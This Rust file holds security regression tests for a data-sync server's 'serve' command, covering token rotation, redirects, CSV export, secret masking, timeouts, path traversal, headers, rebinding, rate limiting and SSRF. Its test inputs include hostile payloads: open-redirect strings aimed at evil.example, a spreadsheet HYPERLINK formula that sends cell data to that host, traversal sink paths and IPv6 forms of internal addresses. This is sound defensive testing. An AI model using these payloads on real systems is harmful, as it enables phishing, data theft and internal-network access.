//! Security hardening of `serve` (issue 17), one regression test per finding, each asserting
//! what a user or an attacker sees: status codes, headers, bytes on disk.

use crate::access::login;
use crate::common::{assert_problem, TestServer};

/// Item 1: rotating the admin token from another process (a second `Store` on the same data
/// dir, as `serve --print-token` opens) revokes the old token and every session at once,
/// even after both were just used successfully.
#[tokio::test]
async fn rotating_the_admin_token_revokes_the_old_token_and_every_session() {
    let s = TestServer::start().await;
    let cookie = login(&s).await;
    let before = s.get("/api/v1/credentials").send().await.unwrap();
    assert_eq!(
        before.status(),
        200,
        "the old token works before the rotation"
    );
    let page = s
        .http
        .get(s.url("/credentials"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200, "the session works before the rotation");

    let other_process = store::Store::open(s.store.data_dir()).unwrap();
    let new = server::auth::regenerate_admin_token(&other_process).unwrap();
    let new = secrecy::ExposeSecret::expose_secret(&new).to_string();

    let old = s.get("/api/v1/credentials").send().await.unwrap();
    assert_problem(old, 401, "unauthorized").await;
    let login_with_old = s
        .http
        .post(s.url("/login"))
        .header("origin", s.base.clone())
        .form(&[("token", s.token.as_str()), ("next", "/credentials")])
        .send()
        .await
        .unwrap();
    assert_eq!(
        login_with_old.status(),
        401,
        "no new session with the old token"
    );
    assert!(login_with_old.headers().get("set-cookie").is_none());
    let session_api = s
        .http
        .get(s.url("/api/v1/credentials"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_problem(session_api, 401, "unauthorized").await;
    let session_page = s
        .http
        .get(s.url("/credentials"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(
        session_page.status(),
        303,
        "the session ends: back to the login page"
    );
    assert_eq!(
        session_page.headers()["location"],
        "/login?next=%2Fcredentials"
    );
    let fresh = s
        .http
        .get(s.url("/api/v1/credentials"))
        .bearer_auth(&new)
        .send()
        .await
        .unwrap();
    assert_eq!(fresh.status(), 200, "the new token works at once");
}

/// Item 3: after login only a path on this server is followed. Browsers resolve
/// `/\evil.example` and `/<TAB>/evil.example` off-site, so those (and their percent-encoded
/// spellings) go to `/`; the login page does not carry them either.
#[tokio::test]
async fn login_redirects_only_to_paths_on_this_server() {
    let s = TestServer::start().await;
    for bad in [
        "/\\evil.example",
        "/\t/evil.example",
        "/%09/evil.example",
        "/%5Cevil.example",
        "/%2F/evil.example",
        "/\r\n/evil.example",
        "//evil.example",
        "https://evil.example/",
        "evil.example",
        "/\\/evil.example",
    ] {
        let response = s
            .http
            .post(s.url("/login"))
            .header("origin", s.base.clone())
            .form(&[("token", s.token.as_str()), ("next", bad)])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 303, "{bad:?}");
        assert_eq!(response.headers()["location"], "/", "next={bad:?}");
        let page = s
            .http
            .get(s.url("/login"))
            .query(&[("next", bad)])
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains(r#"name="next" value="/""#),
            "the login page keeps no off-site next={bad:?}"
        );
    }
    let response = s
        .http
        .post(s.url("/login"))
        .header("origin", s.base.clone())
        .form(&[("token", s.token.as_str()), ("next", "/runs?source=crm")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.headers()["location"], "/runs?source=crm");
}

/// Item 4: the results download never hands a spreadsheet a formula: a key such as
/// `=HYPERLINK(...)` comes back as `'=HYPERLINK(...)`, in files this version writes and in
/// results files an older version left in the data dir.
#[tokio::test]
async fn results_downloads_neutralise_cells_that_start_a_formula() {
    let sandbox = crate::common::sandbox().await;
    let s = TestServer::start().await;
    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
        .await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"open")"#;
    let csv = format!(
        "externalId,email\n\"{}\",a@example.test\n",
        formula.replace('"', "\"\"")
    );
    let uploaded: serde_json::Value = s
        .post("/api/v1/destinations/uploads")
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let report: serde_json::Value = s
        .post("/api/v1/destinations/push")
        .json(
            &serde_json::json!({"credential": "Sandbox", "object": "contacts",
            "key": "externalId", "upload": uploaded["upload"], "dry_run": true}),
        )
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let download = s
        .get(report["results_url"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(download.status(), 200);
    let text = download.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], format!("'{formula}"), "{text}");

    // A results file written before this fix holds the formula raw.
    let old_run = "run_20240101T000000_0000abcd";
    let dir = s.store.data_dir().join("results");
    std::fs::write(
        dir.join(format!("{old_run}.csv")),
        "row,key,outcome,drift_id,reason,input\n1,=1+2,rejected,,@bad,{}\n2,ok,created,-5,fine,{}\n",
    )
    .unwrap();
    let text = s
        .get(&format!("/api/v1/runs/{old_run}/results"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(
        text,
        "row,key,outcome,drift_id,reason,input\n1,'=1+2,rejected,,'@bad,{}\n2,ok,created,'-5,fine,{}\n"
    );
}

/// Every byte of the metadata store (database file and its WAL).
fn store_bytes(s: &TestServer) -> Vec<u8> {
    let mut bytes = std::fs::read(s.store.db_path()).unwrap();
    if let Ok(wal) = std::fs::read(s.store.db_path().with_extension("db-wal")) {
        bytes.extend(wal);
    }
    bytes
}

fn holds(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w == needle.as_bytes())
}

/// Item 5: a sink's database password is write-only. It is encrypted in the vault, every
/// answer and page shows `postgres://user:••••@host/db`, the sink sent back as shown keeps
/// it, pointing it at another host needs it again, and deleting the source removes it.
#[tokio::test]
async fn a_sink_password_is_encrypted_and_shown_masked_everywhere() {
    let sandbox = crate::common::sandbox().await;
    let s = TestServer::start().await;
    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
        .await;
    let password = "Pa55-w0rd-sink-7f3e";
    let sink = format!("postgres://etl:{password}@127.0.0.1:5432/test?sslmode=disable");
    let masked = "postgres://etl:••••@127.0.0.1:5432/test?sslmode=disable";
    let response = s
        .post("/api/v1/sources")
        .json(&serde_json::json!({"name": "crm", "credential": "Sandbox",
            "streams": ["users"], "sink": sink}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let created: serde_json::Value = response.json().await.unwrap();
    assert_eq!(created["sink"], masked);
    let id = created["id"].as_str().unwrap().to_string();

    let cookie = login(&s).await;
    for path in [
        "/api/v1/sources",
        "/api/v1/sources/crm",
        "/sources",
        &format!("/sources/{id}"),
    ] {
        let text = s
            .http
            .get(s.url(path))
            .header("cookie", &cookie)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(!text.contains(password), "{path} shows the password");
        assert!(
            text.contains("postgres://etl:••••@127.0.0.1"),
            "{path}: {text}"
        );
    }
    assert!(
        !holds(&store_bytes(&s), password),
        "the metadata store holds the password in clear"
    );
    let stored = s.store.source_sink_secret("crm").unwrap().unwrap();
    assert!(secrecy::ExposeSecret::expose_secret(&stored).contains(password));

    let kept = s
        .req(reqwest::Method::PATCH, "/api/v1/sources/crm")
        .json(&serde_json::json!({"sink": masked, "mode": "full"}))
        .send()
        .await
        .unwrap();
    assert_eq!(
        kept.status(),
        200,
        "the sink sent back as shown is accepted"
    );
    let still = s.store.source_sink_secret("crm").unwrap().unwrap();
    assert_eq!(
        secrecy::ExposeSecret::expose_secret(&still),
        secrecy::ExposeSecret::expose_secret(&stored),
        "and keeps the stored password"
    );
    let moved = s
        .req(reqwest::Method::PATCH, "/api/v1/sources/crm")
        .json(&serde_json::json!({"sink": "postgres://etl:••••@evil.example:5432/test"}))
        .send()
        .await
        .unwrap();
    let problem = assert_problem(moved, 422, "validation").await;
    assert_eq!(problem["errors"][0]["field"], "sink");
    let unchanged: serde_json::Value = s
        .get("/api/v1/sources/crm")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        unchanged["sink"], masked,
        "the refused change changed nothing"
    );

    assert_eq!(rusqlite_count(&s, &id), 1, "one encrypted password");
    s.req(reqwest::Method::DELETE, "/api/v1/sources/crm")
        .send()
        .await
        .unwrap();
    let left: i64 = rusqlite_count(&s, &id);
    assert_eq!(
        left, 0,
        "deleting the source deletes its encrypted password"
    );
}

fn rusqlite_count(s: &TestServer, owner: &str) -> i64 {
    rusqlite::Connection::open(s.store.db_path())
        .unwrap()
        .query_row(
            "SELECT COUNT(*) FROM secrets WHERE owner_id = ?1",
            [owner],
            |r| r.get(0),
        )
        .unwrap()
}

/// Item 5, older data: a sink password that an earlier version saved in clear moves into
/// the vault when `serve` starts; the source's options then hold only the mask.
#[tokio::test]
async fn a_sink_password_saved_in_clear_moves_into_the_vault() {
    let sandbox = crate::common::sandbox().await;
    let s = TestServer::start().await;
    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
        .await;
    s.store
        .create_source(
            "legacy",
            "Sandbox",
            &["users".to_string()],
            &serde_json::json!({"mode": "full", "sink": "postgres://etl:0ld-clear-pw@db/x", "schedule": null}),
        )
        .unwrap();
    assert_eq!(server::api::sources::seal_clear_sink_passwords(&s.state), 1);
    let record = s.store.source("legacy").unwrap();
    assert_eq!(record.config["sink"], "postgres://etl:••••@db/x");
    let secret = s.store.source_sink_secret("legacy").unwrap().unwrap();
    assert!(secrecy::ExposeSecret::expose_secret(&secret).contains("0ld-clear-pw"));
    assert_eq!(
        server::api::sources::seal_clear_sink_passwords(&s.state),
        0,
        "nothing left to move"
    );
}

/// `host:port` of a test server.
fn addr(s: &TestServer) -> String {
    s.base.trim_start_matches("http://").to_string()
}

/// Read until the server closes the connection or `within` passes; returns what was read and
/// whether it closed.
async fn read_until_closed(
    stream: &mut tokio::net::TcpStream,
    within: std::time::Duration,
) -> (Vec<u8>, bool) {
    use tokio::io::AsyncReadExt;
    let mut got = Vec::new();
    let deadline = tokio::time::Instant::now() + within;
    loop {
        let mut buf = [0u8; 4096];
        match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (got, true),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => return (got, false),
        }
    }
}

fn short_limits() -> server::ServeOptions {
    server::ServeOptions {
        limits: server::limits::Limits {
            header_read_timeout: std::time::Duration::from_millis(800),
            body_timeout: std::time::Duration::from_millis(800),
            idle_timeout: std::time::Duration::from_millis(1500),
            max_connections: 4,
        },
        ..Default::default()
    }
}

/// Item 6: a connection that never finishes its request head, one that idles after a
/// response, and a body that stops arriving are each ended after their timeout; at the
/// connection cap a further client waits until a connection closes, and is then served.
#[tokio::test]
async fn slow_and_idle_connections_are_closed_and_their_number_capped() {
    use tokio::io::AsyncWriteExt;
    use tokio::net::TcpStream;
    let s = TestServer::start_with_options(true, short_limits()).await;
    let addr = addr(&s);
    let started = std::time::Instant::now();
    let mut half = TcpStream::connect(&addr).await.unwrap();
    half.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        .await
        .unwrap();
    let (got, closed) = read_until_closed(&mut half, std::time::Duration::from_secs(5)).await;
    assert!(
        closed && got.is_empty(),
        "a half-sent head is dropped unanswered"
    );
    let waited = started.elapsed();
    assert!(
        waited >= std::time::Duration::from_millis(700)
            && waited < std::time::Duration::from_secs(3),
        "closed after {waited:?}"
    );

    let mut idle = TcpStream::connect(&addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .await
        .unwrap();
    let answered = std::time::Instant::now();
    let (got, closed) = read_until_closed(&mut idle, std::time::Duration::from_secs(5)).await;
    assert!(
        got.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&got)
    );
    assert!(closed, "an idle kept-alive connection is closed");
    assert!(
        answered.elapsed() >= std::time::Duration::from_millis(1300),
        "not before the idle timeout (header timeout is shorter): {:?}",
        answered.elapsed()
    );

    let mut slow_body = TcpStream::connect(&addr).await.unwrap();
    slow_body
        .write_all(
            format!(
                "POST /api/v1/credentials HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n{{\"name\": ",
                s.token
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    let (got, closed) = read_until_closed(&mut slow_body, std::time::Duration::from_secs(5)).await;
    let text = String::from_utf8_lossy(&got);
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(
        text.contains("urn:driftbridge:problem:request-timeout"),
        "{text}"
    );
    assert!(closed, "the connection of a stalled body is closed");

    // The cap: 4 connections hold every slot; a fifth waits, then is served.
    let mut held = Vec::new();
    for _ in 0..4 {
        held.push(TcpStream::connect(&addr).await.unwrap());
    }
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    let mut fifth = TcpStream::connect(&addr).await.unwrap();
    fifth
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let (got, _) = read_until_closed(&mut fifth, std::time::Duration::from_millis(400)).await;
    assert!(
        got.is_empty(),
        "served beyond the cap: {}",
        String::from_utf8_lossy(&got)
    );
    drop(held.pop());
    let (got, _) = read_until_closed(&mut fifth, std::time::Duration::from_secs(3)).await;
    assert!(
        got.starts_with(b"HTTP/1.1 200"),
        "served once a slot is free: {}",
        String::from_utf8_lossy(&got)
    );
}

/// Item 7: a sink inside the data directory is refused by any spelling (`..`, `.`, a
/// symlinked folder, a hard link of the metadata store), when saved and when run; the
/// metadata store gets no table from a sync. The `sinks/` folder and paths outside are fine.
#[tokio::test]
async fn sinks_inside_the_data_directory_are_refused_by_any_spelling() {
    let sandbox = crate::common::sandbox().await;
    let s = TestServer::start().await;
    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
        .await;
    let data = s.store.data_dir().to_path_buf();
    let elsewhere = tempfile::tempdir().unwrap();
    let link = elsewhere.path().join("looks-harmless");
    std::os::unix::fs::symlink(&data, &link).unwrap();
    let hard = elsewhere.path().join("copy.db");
    std::fs::hard_link(s.store.db_path(), &hard).unwrap();
    let d = data.display();
    let refused = [
        format!("sqlite:{d}/driftbridge.db"),
        format!("sqlite:{d}/sinks/../driftbridge.db"),
        format!("sqlite:{d}/./runs/../driftbridge.db"),
        format!("sqlite:{}/driftbridge.db", link.display()),
        format!("sqlite:{}", hard.display()),
        format!("sqlite:{d}/new-file.db"),
        format!("jsonl:{d}"),
        format!("csv:{d}/uploads"),
        format!("parquet:{}/results", link.display()),
        format!(
            "jsonl:{d}/sinks/../../{}/x",
            data.file_name().unwrap().to_string_lossy()
        ),
    ];
    for (i, sink) in refused.iter().enumerate() {
        let response = s
            .post("/api/v1/sources")
            .json(
                &serde_json::json!({"name": format!("s{i}"), "credential": "Sandbox",
                "streams": ["users"], "sink": sink}),
            )
            .send()
            .await
            .unwrap();
        let body = assert_problem(response, 422, "validation").await;
        let error = &body["errors"][0];
        assert_eq!(error["field"], "sink", "{sink}: {body}");
        assert!(
            error["message"]
                .as_str()
                .unwrap()
                .contains("data directory"),
            "{sink}: {body}"
        );
    }
    for (i, sink) in [
        format!("sqlite:{d}/sinks/ok.db"),
        format!("sqlite:{}/ok.db", elsewhere.path().display()),
    ]
    .iter()
    .enumerate()
    {
        let response = s
            .post("/api/v1/sources")
            .json(
                &serde_json::json!({"name": format!("ok{i}"), "credential": "Sandbox",
                "streams": ["users"], "sink": sink}),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 201, "{sink}");
    }
    let default: serde_json::Value = s
        .post("/api/v1/sources")
        .json(
            &serde_json::json!({"name": "default", "credential": "Sandbox", "streams": ["users"]}),
        )
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        default["sink"],
        format!("sqlite:{d}/sinks/driftbridge-data.db"),
        "the default sink lives in the sinks folder"
    );

    // One saved directly (as an earlier version could) is refused when it runs.
    s.store
        .create_source(
            "old",
            "Sandbox",
            &["users".to_string()],
            &serde_json::json!({"mode": "full", "sink": format!("sqlite:{d}/driftbridge.db")}),
        )
        .unwrap();
    let response = s.post("/api/v1/sources/old/run").send().await.unwrap();
    let body = assert_problem(response, 422, "validation").await;
    assert_eq!(body["errors"][0]["field"], "sink", "{body}");
    let tables: i64 = rusqlite::Connection::open(s.store.db_path())
        .unwrap()
        .query_row(
            "SELECT COUNT(*) FROM sqlite_master WHERE name = 'users'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(tables, 0, "the metadata store got no users table");
}

/// Item 8: an upload (personal data) is deleted once a real run of it is recorded (a dry run
/// keeps it for the real run); uploads nobody ran and old results files are swept by age;
/// a too large upload is told the real limit, 20 MiB, and other bodies 1 MiB.
#[tokio::test]
async fn uploads_are_deleted_after_their_run_or_their_retention_and_413_names_the_limit() {
    let sandbox = crate::common::sandbox().await;
    let s = TestServer::start().await;
    s.create_credential("Sandbox", &sandbox.token(), &sandbox.base_url())
        .await;
    let uploads = s.store.data_dir().join("uploads");
    let files = |dir: &std::path::Path| -> Vec<String> {
        std::fs::read_dir(dir)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    };
    let uploaded: serde_json::Value = s
        .post("/api/v1/destinations/uploads")
        .header("content-type", "text/csv")
        .body("email,name\nada@example.test,Ada\n")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = uploaded["upload"].as_str().unwrap().to_string();
    let push = |dry_run: bool| {
        s.post("/api/v1/destinations/push")
            .json(
                &serde_json::json!({"credential": "Sandbox", "object": "contacts",
                "key": "email", "upload": id, "dry_run": dry_run}),
            )
            .send()
    };
    assert_eq!(push(true).await.unwrap().status(), 200);
    assert_eq!(
        files(&uploads),
        [format!("{id}.csv")],
        "a dry run keeps the upload"
    );
    assert_eq!(push(false).await.unwrap().status(), 200);
    assert!(files(&uploads).is_empty(), "the run deleted the upload");
    let again = push(false).await.unwrap();
    let body = assert_problem(again, 422, "validation").await;
    assert!(
        body["detail"].as_str().unwrap().contains("upload it again"),
        "{body}"
    );

    // Retention: an upload never run and a results file, both older than their retention.
    std::fs::create_dir_all(&uploads).unwrap();
    let day = std::time::Duration::from_secs(24 * 3600);
    let old = std::time::SystemTime::now() - 2 * day;
    let stale = uploads.join("upl_00000000000000aa.csv");
    let fresh = uploads.join("upl_00000000000000bb.csv");
    let results = s.store.data_dir().join("results");
    let old_results = results.join("run_20240101T000000_000000aa.csv");
    for path in [&stale, &fresh, &old_results] {
        std::fs::write(path, "email\nx@example.test\n").unwrap();
    }
    for path in [&stale, &old_results] {
        std::fs::File::options()
            .write(true)
            .open(path)
            .unwrap()
            .set_modified(old)
            .unwrap();
    }
    let keep_results = flows::uploads::Retention {
        results: None,
        ..Default::default()
    };
    let swept = flows::uploads::sweep(
        s.store.data_dir(),
        &keep_results,
        std::time::SystemTime::now(),
    );
    assert_eq!((swept.uploads, swept.results), (1, 0));
    assert!(!stale.exists() && fresh.exists() && old_results.exists());
    let retention = flows::uploads::Retention {
        results: Some(day),
        ..Default::default()
    };
    let swept = flows::uploads::sweep(s.store.data_dir(), &retention, std::time::SystemTime::now());
    assert_eq!((swept.uploads, swept.results), (0, 1));
    assert!(!old_results.exists() && fresh.exists());

    // 413s name the limit that applies.
    let big = vec![b'a'; 21 * 1024 * 1024];
    let response = s
        .post("/api/v1/destinations/uploads")
        .header("content-type", "text/csv")
        .body(big)
        .send()
        .await
        .unwrap();
    let body = assert_problem(response, 413, "payload-too-large").await;
    assert!(
        body["detail"].as_str().unwrap().contains("20 MiB"),
        "{body}"
    );
    let response = s
        .post("/api/v1/credentials")
        .header("content-type", "application/json")
        .body(format!("{{\"name\": \"{}\"}}", "x".repeat(2 * 1024 * 1024)))
        .send()
        .await
        .unwrap();
    let body = assert_problem(response, 413, "payload-too-large").await;
    assert!(body["detail"].as_str().unwrap().contains("1 MiB"), "{body}");
    let cookie = login(&s).await;
    let mut form = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\nContent-Type: text/csv\r\n\r\n".to_vec();
    form.extend(vec![b'a'; 21 * 1024 * 1024]);
    form.extend_from_slice(b"\r\n--XyZ--\r\n");
    let html = s
        .http
        .post(s.url("/ui/destinations/upload"))
        .header("cookie", &cookie)
        .header("origin", s.base.clone())
        .header("hx-request", "true")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(form)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        html.contains("20 MiB"),
        "the upload form names the limit: {html}"
    );
}

/// Item 9: every answer carries the hardening headers; the pages hold no inline script or
/// style (the Content-Security-Policy allows none, and the browser tests run under it).
#[tokio::test]
async fn every_answer_carries_the_security_headers_and_pages_have_no_inline_script() {
    let s = TestServer::start().await;
    let cookie = login(&s).await;
    for path in [
        "/login",
        "/credentials",
        "/sources",
        "/sources/new",
        "/destinations",
        "/runs",
        "/api/v1/credentials",
        "/assets/htmx.min.js",
        "/healthz",
        "/no-such-page",
    ] {
        let response = s
            .http
            .get(s.url(path))
            .header("cookie", &cookie)
            .send()
            .await
            .unwrap();
        let h = response.headers().clone();
        let csp = h["content-security-policy"].to_str().unwrap();
        assert!(csp.contains("script-src 'self'"), "{path}: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(
            !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"),
            "{csp}"
        );
        assert_eq!(h["x-frame-options"], "DENY", "{path}");
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
        let is_html = h
            .get("content-type")
            .is_some_and(|v| v.to_str().unwrap().starts_with("text/html"));
        if is_html {
            let html = response.text().await.unwrap().to_lowercase();
            for script in html.split("<script").skip(1) {
                let tag = script.split('>').next().unwrap();
                assert!(
                    tag.contains("src="),
                    "{path} has an inline script: <script{tag}>"
                );
            }
            assert!(
                !html.contains(" style=") && !html.contains("<style"),
                "{path} has inline style"
            );
            assert!(
                !html.contains(" onclick=") && !html.contains("hx-on"),
                "{path}"
            );
        }
    }
}

/// Item 9: a page that re-points its own name at the server (DNS rebinding) sends that name
/// as `Host` and gets 421 for the UI, the API and /metrics; the bind address, localhost and
/// `--allowed-host` names are answered.
#[tokio::test]
async fn requests_for_another_host_name_are_refused() {
    let s = TestServer::start_with_options(
        true,
        server::ServeOptions {
            allowed_hosts: vec!["driftbridge.internal.example".into()],
            ..Default::default()
        },
    )
    .await;
    let port = s.base.rsplit(':').next().unwrap().to_string();
    for path in ["/login", "/metrics", "/api/v1/credentials", "/healthz"] {
        let response = s
            .get(path)
            .header("host", format!("rebound.evil.example:{port}"))
            .send()
            .await
            .unwrap();
        let body = assert_problem(response, 421, "misdirected-host").await;
        assert!(
            body["detail"].as_str().unwrap().contains("--allowed-host"),
            "{body}"
        );
    }
    for host in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        "driftbridge.internal.example".to_string(),
    ] {
        let response = s
            .get("/api/v1/credentials")
            .header("host", host.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{host}");
    }
}

/// Item 9: /metrics needs the admin token unless `--public-metrics`.
#[tokio::test]
async fn metrics_need_the_admin_token_unless_public() {
    let s = TestServer::start().await;
    let anonymous = s.http.get(s.url("/metrics")).send().await.unwrap();
    assert_problem(anonymous, 401, "unauthorized").await;
    assert_eq!(s.get("/metrics").send().await.unwrap().status(), 200);
    let public = TestServer::start_with_options(
        true,
        server::ServeOptions {
            public_metrics: true,
            ..Default::default()
        },
    )
    .await;
    let open = public
        .http
        .get(public.url("/metrics"))
        .send()
        .await
        .unwrap();
    assert_eq!(open.status(), 200);
}

/// Item 9: the session cookie is `Secure` when the server is reached over https
/// (`--public-url https://...`), and that origin may post; without it, no `Secure`.
#[tokio::test]
async fn the_session_cookie_is_secure_behind_an_https_public_url() {
    let plain = TestServer::start().await;
    let response = plain
        .http
        .post(plain.url("/login"))
        .header("origin", plain.base.clone())
        .form(&[("token", plain.token.as_str())])
        .send()
        .await
        .unwrap();
    assert!(!response.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .contains("Secure"));

    let s = TestServer::start_with_options(
        true,
        server::ServeOptions {
            public_url: Some("https://driftbridge.example.com".parse().unwrap()),
            ..Default::default()
        },
    )
    .await;
    let response = s
        .http
        .post(s.url("/login"))
        .header("origin", "https://driftbridge.example.com")
        .form(&[("token", s.token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 303, "the public origin may log in");
    let cookie = response.headers()["set-cookie"].to_str().unwrap();
    assert!(cookie.contains("; Secure"), "{cookie}");
    let through_proxy = s
        .get("/api/v1/credentials")
        .header("host", "driftbridge.example.com")
        .send()
        .await
        .unwrap();
    assert_eq!(
        through_proxy.status(),
        200,
        "the public host name is answered"
    );
}

/// Item 9: after 10 failed logins in a minute from one address, logins from it get 429 with
/// `Retry-After`, even with the right token; another address still logs in.
#[tokio::test]
async fn failed_logins_are_rate_limited_per_client_address() {
    let s = TestServer::start().await;
    let attempt = |client: &reqwest::Client, token: &str| {
        client
            .post(s.url("/login"))
            .header("origin", s.base.clone())
            .form(&[("token", token.to_string()), ("next", "/runs".to_string())])
            .send()
    };
    for i in 0..10 {
        let response = attempt(&s.http, &format!("dbt_guess_{i}")).await.unwrap();
        assert_eq!(response.status(), 401, "attempt {i}");
    }
    let blocked = attempt(&s.http, &s.token).await.unwrap();
    assert_eq!(blocked.status(), 429);
    let wait: u64 = blocked.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    assert!(blocked.headers().get("set-cookie").is_none());
    assert!(blocked
        .text()
        .await
        .unwrap()
        .contains("Too many failed logins"));

    let other_address = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .local_address("127.0.0.2".parse::<std::net::IpAddr>().unwrap())
        .build()
        .unwrap();
    let response = attempt(&other_address, &s.token).await.unwrap();
    assert_eq!(
        response.status(),
        303,
        "another client address is not blocked"
    );
}

/// Item 10: IPv6 forms that embed an internal IPv4 address (IPv4-compatible, IPv4-translated,
/// local-use NAT64) are internal too: a credential cannot point the server at them, while
/// the same forms of a public address stay allowed.
#[tokio::test]
async fn ipv6_forms_of_internal_ipv4_addresses_are_refused_as_base_urls() {
    let s = TestServer::start_with(false).await;
    for (i, host) in [
        "[::127.0.0.1]",
        "[::169.254.169.254]",
        "[::ffff:0:10.0.0.1]",
        "[64:ff9b:1::a9fe:a9fe]",
        "[64:ff9b:1:a9fe:a9:fe00::]",
    ]
    .iter()
    .enumerate()
    {
        let response = s
            .post("/api/v1/credentials")
            .json(
                &serde_json::json!({"name": format!("c{i}"), "api_key": "tok_abcdefgh12345678",
                "base_url": format!("https://{host}")}),
            )
            .send()
            .await
            .unwrap();
        let body = assert_problem(response, 422, "validation").await;
        let error = &body["errors"][0];
        assert_eq!(error["field"], "base_url", "{host}: {body}");
        assert!(
            error["message"]
                .as_str()
                .unwrap()
                .contains("internal address"),
            "{host}: {body}"
        );
    }
    let public = s
        .post("/api/v1/credentials")
        .json(
            &serde_json::json!({"name": "public", "api_key": "tok_abcdefgh12345678",
            "base_url": "https://[::ffff:0:8.8.8.8]", "save_untested": true}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(
        public.status(),
        201,
        "an embedded public address is allowed"
    );
    assert!(s.store.list_credentials().unwrap().len() == 1);
}
